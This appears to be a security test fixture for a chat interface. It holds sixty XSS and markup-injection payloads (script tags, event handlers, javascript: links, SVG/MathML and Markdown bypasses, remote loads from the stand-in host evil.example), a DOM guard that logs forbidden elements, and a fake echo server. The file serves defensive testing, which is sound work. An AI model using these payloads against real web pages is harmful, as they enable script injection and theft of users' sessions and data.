"""What an attacker might have a user or a model write (R1): 60 payloads, and what is allowed to come of them."""

PAYLOADS = [
    # script, and what runs without one
    "<script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    "<scr<script>ipt>alert(1)</script>",
    "<script\x0csrc='//evil.example/x.js'>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/a.gif 1x' sizes=1px>",
    "<picture><source srcset=//evil.example/p.webp><img></picture>",
    "<video poster=//evil.example/p.png src=//evil.example/v.mp4 onloadstart=alert(1)></video>",
    "<audio src=//evil.example/a.mp3 onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<div style='background:url(//evil.example/b.png)' onmouseover=alert(1)>x</div>",
    # what changes the page around it
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</div></main></body><script>alert(1)</script>",
    # SVG and MathML
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#//evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    # links and pictures in Markdown
    "[click](javascript:alert(1))",
    "[click](java\tscript:alert(1)) [x](JAVASCRIPT&colon;alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1)) [x](file:///etc/passwd)",
    "[x](https://evil.example\" onmouseover=\"alert(1))",
    "[https://bank.example](https://user@evil.example/)",
    "![pixel](https://evil.example/pixel.gif)",
    "![x](\"onerror=\"alert(1))",
    "[![x](https://evil.example/i.png)](javascript:alert(1))",
    "<https://evil.example/><javascript:alert(1)>",
    # code and its language
    "```<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)><script>alert(1)</script>\n```",
    '```js" onmouseover="alert(1)\n`${alert(1)}`\n```',
    "`<img src=x onerror=alert(1)>` **<img src=x onerror=alert(1)>**",
    # formulas and diagrams
    r"\(\href{javascript:alert(1)}{x} \url{javascript:alert(1)}\)",
    r"$$\includegraphics[height=1em]{https://evil.example/p.png} \htmlStyle{background:url(//evil.example)}{x}$$",
    r"\[\htmlData{x=1}{\def\a{\a\a}\a} \unicode{x3c}script\unicode{x3e}\]",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>] --> B; click A href \"javascript:alert(1)\"\n```",
    # templates, references and writing systems
    "{@html '<img src=x onerror=alert(1)>'} ${alert(1)} {{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)",
    "\u202ealert(1)\u202c \u2028 <\u0130mg src=x onerror=alert(1)> \ufeff<\u017fcript>alert(1)",
    "<sub onclick=alert(1)>x</sub><kbd style=position:fixed>y</kbd><br onload=alert(1)>",
]

GUARD = """
window.chatdForeign = [];
const TAGS = new Set(("ol ul li article h1 h2 div p span a bdi strong em del code pre figure figcaption button svg path rect " +
  "table thead tbody tr th td hr blockquote sub sup kbd mark u s ins b i small footer details summary form textarea").split(" "));
const look = (element) => {
  const inFormula = element.closest(".katex, .katex-error") !== null;
  if (!inFormula && !TAGS.has(element.localName)) window.chatdForeign.push(element.outerHTML.slice(0, 200));
  for (const { name, value } of element.attributes) {
    const isLink = name === "href" && (/^(https?:|mailto:)/.test(value) || element.closest("aside, .skip"));
    const isBad = /^on|^(src|srcset|srcdoc|action|formaction|poster|data|background|xlink:href|href)$/.test(name);
    const isStyle = name === "style" && !inFormula && element.localName !== "textarea";
    if ((isBad && !isLink) || isStyle) window.chatdForeign.push(`${element.localName} ${name}=${value}`);
  }
};
addEventListener("DOMContentLoaded", () => new MutationObserver((changes) => {
  for (const { target, addedNodes, type } of changes) {
    if (!target.closest?.("main, h1, nav")) continue;
    if (type === "attributes") look(target);
    for (const node of addedNodes) if (node.nodeType === 1) [node, ...node.querySelectorAll("*")].forEach(look);
  }
}).observe(document.body, { subtree: true, childList: true, attributes: true }));
document.addEventListener("securitypolicyviolation", (event) => window.chatdForeign.push(`policy: ${event.violatedDirective} ${event.sourceFile}:${event.lineNumber}`));
"""
"""Writes down whatever comes into the page that answers must not bring: elements, attributes, policy reports."""

FAKE_SERVER = """
// A frame is a task of its own and as short as can be: each piece is painted by itself.
const tasks = new MessageChannel(), waiting = [];
tasks.port1.onmessage = () => waiting.shift()();
const soon = (action) => { waiting.push(action); tasks.port2.postMessage(0); };
window.requestAnimationFrame = (action) => { soon(() => action(performance.now())); return 0; };
window.chatdPaints = 0;

const usage = { prompt_tokens: 2, gpu_hit: 1, disk_hit: 0, computed: 1, output_tokens: 1, total_tokens: 3 };
const timings = { queue_ms: 0, ttft_ms: 1, tpot_ms: 1, tokens_per_s: 1, total_ms: 1 };
const cost = { currency: "CNY", total_nano: 1, without_cache_nano: 1, saved_nano: 0, prompt_nano: 1, output_nano: 0, price_version: "x" };
let made = 0;

window.WebSocket = class {
  constructor() { soon(() => this.onopen()); }
  close() {}
  say(event) { this.onmessage({ data: JSON.stringify(event) }); }
  send(frame) {
    const event = JSON.parse(frame);
    if (event.type === "session.hello")
      soon(() => this.say({ type: "session.created", session_id: "s", model: "fake", context_length: 4096, version: "x", heartbeat_s: 60, currency: "CNY" }));
    if (event.type === "response.create") soon(() => this.answer(event));
  }
  answer({ input, idempotency_key }) {
    made += 1;
    const ids = { response_id: `r${made}`, conversation_id: "c", message_id: `a${made}` };
    this.say({ type: "response.created", ...ids, idempotency_key, user_message_id: `u${made}`, dropped_turns: 0, miss: "" });
    const pieces = Array.from(input);
    const next = (at) => {
      if (at === pieces.length)
        return this.say({ type: "response.completed", ...ids, finish_reason: "end", last_seq: at, usage, timings, cost });
      this.say({ type: "response.output_text.delta", ...ids, from_seq: at + 1, seq: at + 1, delta: pieces[at] });
      window.chatdPaints += 1;
      soon(() => soon(() => next(at + 1))); // behind the frame that paints this one
    };
    next(0);
  }
};
"""
"""A server within the page that answers with the question, a character a delta."""
